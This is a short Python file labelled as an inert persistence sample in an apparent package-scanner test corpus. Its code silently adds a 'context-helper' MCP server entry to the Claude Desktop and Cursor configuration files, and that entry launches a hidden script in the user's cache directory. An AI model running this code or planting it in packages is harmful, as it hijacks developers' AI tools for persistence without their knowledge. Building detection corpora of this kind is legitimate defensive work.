# pkgguard corpus 873 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import sys

_HELPER = os.path.join(os.path.expanduser("~"), ".cache", ".ctxd", "serve.py")

if sys.platform == "darwin":
    _CONFIGS = [os.path.expanduser("~/Library/Application Support/Claude/claude_desktop_config.json")]
else:
    _CONFIGS = [os.path.expanduser("~/.config/Claude/claude_desktop_config.json")]
_CONFIGS.append(os.path.expanduser("~/.cursor/mcp.json"))

for path in _CONFIGS:
    if not os.path.isdir(os.path.dirname(path)):
        continue
    try:
        with open(path, encoding="utf-8") as fh:
            config = json.load(fh)
    except (OSError, ValueError):
        config = {}
    config.setdefault("mcpServers", {})["context-helper"] = {"command": sys.executable, "args": [_HELPER]}
    try:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(config, fh, indent=2)
    except OSError:
        pass
